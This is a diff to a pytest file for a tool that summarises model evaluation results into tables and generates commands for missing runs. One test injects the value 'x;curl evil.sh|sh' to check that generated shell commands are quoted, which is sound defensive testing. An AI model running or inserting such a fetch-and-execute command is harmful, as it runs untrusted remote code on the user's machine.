@@ -15,10 +15,11 @@ import numpy as np
 import pytest
 
 import summarize_results
-from opsd.errors import ArtefactError, run_cli
+from opsd.errors import run_cli
 from opsd.grading import ProblemGrade
-from opsd.results import build_result, problem_record, result_path, write_result
-from opsd.summary import Cell, Row, build_tables, load_run, row_title, split_name
+from opsd.result_names import result_path
+from opsd.results import build_result, problem_record, write_result
+from opsd.summary import Cell, Row, Table, build_tables, load_run, row_title, split_name
 from opsd.summary_commands import PAPER_SEEDS, SMALL_MAX_NEW_TOKENS, missing_commands
 
 ROOT = Path(__file__).resolve().parent.parent
@@ -84,6 +85,13 @@ def write(folder: Path, name: str, dataset: str, seed: int | None, count: int, *
     return path
 
 
+def tables_of(*paths: Path) -> list[Table]:
+    skipped: list[str] = []
+    tables = build_tables([load_run(path) for path in paths], skipped.append)
+    assert not skipped
+    return tables
+
+
 def summarize(capsys: pytest.CaptureFixture[str], *argv: object) -> tuple[int, str, str]:
     code = run_cli(lambda: summarize_results.main(list(map(str, argv))))
     captured = capsys.readouterr()
@@ -91,10 +99,14 @@ def summarize(capsys: pytest.CaptureFixture[str], *argv: object) -> tuple[int, s
 
 
 def section(text: str, title: str) -> list[list[str]]:
-    """The cells of the Markdown table under the heading that begins with `title`, without its rule."""
+    """The cells of the Markdown table under the heading that begins with `title`, without rule and notes."""
     block = next(part for part in text.split("### ") if part.startswith(title))
     lines = [line for line in block.splitlines() if line.startswith("|")]
-    return [[cell.strip() for cell in line.strip("|").split("|")] for line in (lines[0], *lines[2:])]
+    lines = [re.sub(r" \[[\d, ]+\] \|", " |", line) for line in (lines[0], *lines[2:])]
+    return [
+        [cell.strip() for cell in re.sub(r" \[[\d, ]+\] \|", " |", line).strip("|").split("|")]
+        for line in lines
+    ]
 
 
 # -- figures by hand -----------------------------------------------------------------------------------------
@@ -284,7 +296,7 @@ def test_files_of_the_authors_release(tmp_path, capsys):
 
 def test_the_commands_that_fill_the_table(hand, capsys):
     (hand / "qwen3_4b_base_pwopsd_aime25_38k_seed2.json").unlink()
-    table = build_tables([load_run(path) for path in sorted(hand.iterdir())])[0]
+    table = tables_of(*sorted(hand.iterdir()))[0]
     commands = missing_commands(table)
     # Three methods without a result on four benchmarks and three seeds, and the run that was removed. The
     # files hold 2 samples and 4 problems; what fills up must too.
@@ -301,7 +313,7 @@ def test_the_commands_that_fill_the_table(hand, capsys):
 def test_a_run_of_the_papers_settings_is_filled_without_any(tmp_path):
     path = result_path("dsr1_l8b_eopd", "aime24", 3, folder=tmp_path)
     write_result(path, result("aime24", 3, rows_of(200, problems=30, val_n=12)))
-    commands = missing_commands(build_tables([load_run(path)])[0])
+    commands = missing_commands(tables_of(path)[0])
     assert "bash launchers/run_eval.sh dsr1_l8b_eopd aime24 4 2" in commands
     assert "bash launchers/run_eval.sh dsr1_l8b_eopd aime24 4 3" not in commands
 
@@ -314,7 +326,7 @@ def test_a_command_writes_the_file_that_is_missing(tmp_path, name, dataset, max_
     path = write(tmp_path, name, dataset, 1, 4)
     stored = json.loads(path.read_text()) | {"max_new_tokens": max_new_tokens}
     path.write_text(json.dumps(stored))
-    table = build_tables([load_run(path)])[0]
+    table = tables_of(path)[0]
     wanted = [c for c in missing_commands(table, [5]) if f" {name} {dataset} " in c]
     words = shlex.split(wanted[0])
     settings = dict(word.split("=") for word in words if "=" in word)
@@ -327,7 +339,8 @@ def test_a_command_writes_the_file_that_is_missing(tmp_path, name, dataset, max_
         text=True,
         check=True,
     )
-    assert f"--output {result_path(name, dataset, 5)}" in done.stdout
+    expected = result_path(name, dataset, 5, max_new_tokens=max_new_tokens, num_samples=4)
+    assert f"--output {expected}" in done.stdout
     assert "--val_n 2 " in done.stdout
     assert f"--num_samples {4}" in done.stdout
 
@@ -344,53 +357,155 @@ def test_the_seeds_and_settings_are_the_launchers():
 
 @pytest.mark.parametrize(
     ("field", "value"),
-    [
-        ("temperature", 0.6),
-        ("top_p", 1.0),
-        ("max_new_tokens", 1024),
-        ("enable_thinking", False),
-        ("model_identity", "other weights"),
-        ("dataset_fingerprint", "other problems"),
-        ("prompt_style", "other"),
-    ],
+    [("model_identity", "other weights"), ("dataset_fingerprint", "other problems"), ("num_problems", 3)],
 )
-def test_seeds_of_different_regimes_are_not_averaged(tmp_path, capsys, field, value):
-    write(tmp_path, "small_pwopsd", "small", 1, 4)
-    write(tmp_path, "small_pwopsd", "small", 2, 4, **{field: value})
+def test_a_cell_of_unlike_runs_is_left_out_with_a_line(tmp_path, capsys, field, value):
+    write(tmp_path, "small_opsd", "small", 1, 4)
+    for name in ("small_pwopsd", "small_pwopsd_t1"):
+        write(tmp_path, name, "small", 1, 4)
+        path = write(tmp_path, name, "small", 2, 4)
+        stored = json.loads(path.read_text()) | {field: value}
+        path.write_text(json.dumps(stored | {"results": stored["results"][: stored["num_problems"]]}))
     code, text, error = summarize(capsys, f"{tmp_path}/*.json")
-    assert (code, text) == (3, "")
-    assert f"{field}: " in error
-    assert repr(value) in error
-    assert "seed1.json" in error
-    assert "seed2.json" in error
+    assert code == 1
+    assert section(text, "small: Avg@2, mean")[1:] == [["OPSD", "50.00"]]
+    assert len(error.splitlines()) == 2
+    for part in (f"{field}: ", repr(value), "seed1.json", "seed2.json"):
+        assert part in error
 
 
-def test_training_seeds_are_compared_among_themselves(tmp_path):
-    write(tmp_path, "small_pwopsd_t1", "small", 1, 4)
-    write(tmp_path, "small_pwopsd_t2", "small", 1, 4)
-    write(tmp_path, "small_pwopsd_t2", "small", 2, 4, model_identity="other weights")
-    with pytest.raises(ArtefactError, match="model_identity"):
-        build_tables([load_run(path) for path in sorted(tmp_path.iterdir())])
+def test_a_moved_checkout_is_the_same_model(tmp_path, capsys):
+    write(tmp_path, "small_pwopsd", "small", 1, 4, base_model="here/outputs/m")
+    write(tmp_path, "small_pwopsd", "small", 2, 8, base_model="there/outputs/m")
+    code, text, _ = summarize(capsys, f"{tmp_path}/*.json")
+    assert (code, section(text, "small: Avg@2, mean")[1]) == (0, ["PW-OPSD", "75.00 ± 35.36"])
 
 
 @pytest.mark.parametrize(
-    ("name", "dataset"), [("small_pwopsd", "small_hard"), ("small_opsd", "small")], ids=["column", "row"]
+    ("name", "dataset"),
+    [("small_pwopsd", "small_hard"), ("small_opsd", "small"), ("small_pwopsd", "small")],
+    ids=["column", "row", "cell"],
 )
-def test_a_table_holds_one_regime(tmp_path, capsys, name, dataset):
+@pytest.mark.parametrize(
+    ("field", "value", "said"),
+    [
+        ("top_k", 20, "top_k 20"),
+        ("temperature", 0.6, "temperature 0.6"),
+        ("max_new_tokens", 2048, "at most 2,048 new tokens"),
+        ("enable_thinking", False, "thinking off"),
+    ],
+)
+def test_each_regime_has_a_table_that_states_it(tmp_path, capsys, name, dataset, field, value, said):
     write(tmp_path, "small_pwopsd", "small", 1, 4)
-    write(tmp_path, name, dataset, 1, 4, top_k=20)
-    code, _, error = summarize(capsys, f"{tmp_path}/*.json")
-    assert code == 3
-    assert "top_k: 0 != 20" in error or "top_k: 20 != 0" in error
+    write(tmp_path, name, dataset, 2, 4, **{field: value})
+    code, text, _ = summarize(capsys, f"{tmp_path}/*.json")
+    assert code == 0
+    regimes = [line for line in text.splitlines() if line.startswith("Regime: ")]
+    assert len(regimes) == 8, "two tables of four sections"
+    assert sum(said in line for line in regimes) == 4
+    assert "±" not in "".join(line for line in text.splitlines() if line.startswith("| "))
 
 
-def test_one_run_twice(tmp_path, capsys):
+def test_one_run_twice_is_left_out(tmp_path, capsys):
     write(tmp_path, "small_pwopsd", "small", 0, 4)
     path = write(tmp_path, "small_pwopsd", "small", None, 4)
     path.write_text(path.read_text().replace('"seed": null', '"seed": 0'))
-    code, _, error = summarize(capsys, f"{tmp_path}/*.json")
-    assert code == 3
+    code, text, error = summarize(capsys, f"{tmp_path}/*.json")
+    assert (code, text) == (1, "")
     assert "twice" in error
+
+
+# -- what is not the paper's ---------------------------------------------------------------------------------
+
+
+def marked(text: str, method: str, column: int) -> list[str]:
+    """The notes of one cell of the first table."""
+    block = text.split("### ")[1]
+    row = next(line for line in block.splitlines() if line.startswith(f"| {method} "))
+    numbers = re.search(r" \[([\d, ]+)\]$", row.split("|")[column + 1].strip())
+    notes = dict(re.findall(r"^\[(\d+)\] (.+)$", block, re.M))
+    return [notes[number] for number in numbers[1].split(", ")] if numbers else []
+
+
+# A cell like the paper's: every problem of AIME 2024, 12 samples, three seeds, checkpoint 100.
+LIKE_THE_PAPERS = {
+    "training_run": {"method": "opsd", "run_name": "dsr1_l8b_opsd", "adapter_step": 100},
+    "grading": {"math_verify": "0.9.0", "time_limit_s": 5.0, "killed": 0},
+}
+
+
+def paper_cell(folder: Path, *, name: str = "dsr1_l8b_opsd", seeds: int = 3, **more: object) -> None:
+    for seed in range(1, seeds + 1):
+        stored = result("aime24", seed, rows_of(100, problems=30, val_n=12), model_identity=name)
+        write_result(result_path(name, "aime24", seed, folder=folder), stored | LIKE_THE_PAPERS | more)
+
+
+def test_a_cell_like_the_papers_has_no_mark(tmp_path, capsys):
+    paper_cell(tmp_path)
+    _, text, _ = summarize(capsys, f"{tmp_path}/*.json")
+    assert marked(text, "OPSD", 2) == []
+    assert (
+        "Regime: temperature 1, top_p 0.95, top_k off, min_p off, presence penalty 0, thinking on, at most "
+        "38,912 new tokens, 12 samples a problem; problems: AIME 2024 30; graded with math_verify 0.9.0, "
+        "time_limit_s 5.0." in text
+    )
+
+
+@pytest.mark.parametrize(
+    ("changes", "note"),
+    [
+        ({"temperature": 0.6}, "temperature 0.6 (the paper: temperature 1)"),
+        ({"enable_thinking": False}, "thinking off (the paper: thinking on)"),
+        ({"max_new_tokens": 2048}, "at most 2,048 new tokens (the paper: at most 38,912 new tokens)"),
+        ({"seeds": 2}, "evaluation seeds: 2 (the paper: 3)"),
+        ({"training_run": {"method": "opsd", "adapter_step": 50}}, "adapter of step 50 (the paper: 100)"),
+        ({"training_run": {"method": "eopd", "adapter_step": 100}}, "was trained with eopd by its manifest"),
+        ({"training_run": {**LIKE_THE_PAPERS["training_run"], "run_name": "x_opsd"}}, "of the run x_opsd"),
+        ({"training_run": None}, "states no training run"),
+        ({"grading": {"killed": 1}}, "3 parses or comparisons were killed"),
+        ({"truncation_share": 0.125}, "12 % of the samples were cut off at 38,912 tokens"),
+        ({"name": "dsr1_l8b"}, "was trained with opsd by its manifest"),
+    ],
+)
+def test_a_cell_that_is_not_the_papers_is_marked(tmp_path, capsys, changes, note):
+    paper_cell(tmp_path, **changes)
+    _, text, _ = summarize(capsys, f"{tmp_path}/*.json")
+    (found,) = marked(text, "Base" if "name" in changes else "OPSD", 2)
+    assert note in found
+    _, text, _ = summarize(capsys, f"{tmp_path}/*.json", "--format", "csv")
+    assert note in text
+
+
+def test_seeds_graded_by_different_versions_are_marked(tmp_path, capsys):
+    paper_cell(tmp_path)
+    path = result_path("dsr1_l8b_opsd", "aime24", 2, folder=tmp_path)
+    path.write_text(path.read_text().replace('"math_verify": "0.9.0"', '"math_verify": "0.8.0"'))
+    _, text, _ = summarize(capsys, f"{tmp_path}/*.json")
+    (note,) = marked(text, "OPSD", 2)
+    assert note == "graded with math_verify 0.9.0, time_limit_s 5.0; math_verify 0.8.0, time_limit_s 5.0"
+
+
+def test_a_look_at_five_problems_is_a_row_of_its_own(tmp_path, capsys):
+    paper_cell(tmp_path)
+    path = result_path("dsr1_l8b_opsd", "aime24", 1, num_samples=5, folder=tmp_path)
+    write_result(path, result("aime24", 1, rows_of(60, problems=5, val_n=12)))
+    code, text, _ = summarize(capsys, f"{tmp_path}/*.json")
+    assert code == 0
+    assert path.name == "dsr1_l8b_opsd_aime24_38k_first5_seed1.json"
+    assert [line[2] for line in section(text, "dsr1_l8b: Avg@12, mean")[1:3]] == ["27.78 ± 0.00", "100.00"]
+    assert "5 of 30 problems" in marked(text, "OPSD (first 5 problems)", 2)
+    assert "NUM_SAMPLES=5 bash launchers/run_eval.sh dsr1_l8b_opsd aime24 4 2" in text
+
+
+def test_commands_repeat_the_regime_and_are_quoted(tmp_path):
+    sampling = {"temperature": 0.6, "top_k": 20, "enable_thinking": False}
+    path = result_path("small_base", "small", 1, folder=tmp_path)
+    write_result(path, result("x;curl evil.sh|sh", 1, rows_of(4), **sampling))
+    (command,) = missing_commands(tables_of(path)[0], [2])
+    words = shlex.split(command)
+    assert words[words.index("--") :] == ["--", "--no_thinking", "--temperature", "0.6", "--top_k", "20"]
+    assert "'x;curl evil.sh|sh'" in command
+    assert "MAX_NEW_TOKENS=38912" in words, "the model's own length is another"
 
 
 def test_damaged_and_foreign_files_are_skipped(hand, capsys):
@@ -452,8 +567,8 @@ def test_latex(hand, capsys):
     _, text, _ = summarize(capsys, f"{hand}/*.json", "--format", "latex")
     cells = ["100.00 ± 0.00", "62.50 ± 12.50", "37.50 ± 21.65", "50.00 ± 25.00", "62.50"]
     line = " & ".join(["PW-OPSD", *cells]).replace("±", "$\\pm$")
-    assert f"{line} \\\\\n" in text
-    assert text.count("\\begin{tabular}{lccccc}") == text.count("\\end{tabular}") == 4
+    assert f"{line} \\\\\n" in re.sub(r" \[[\d, ]+\] ", " ", text)
+    assert text.count("\\begin{tabular}{lccccc}") == text.count("\\begin{tabular}{p{\\textwidth}}") == 4
     body = [line for line in text.splitlines() if not line.startswith("%")]
     assert not re.search(r"(?<!\\)[_%#]", "\n".join(body))
 
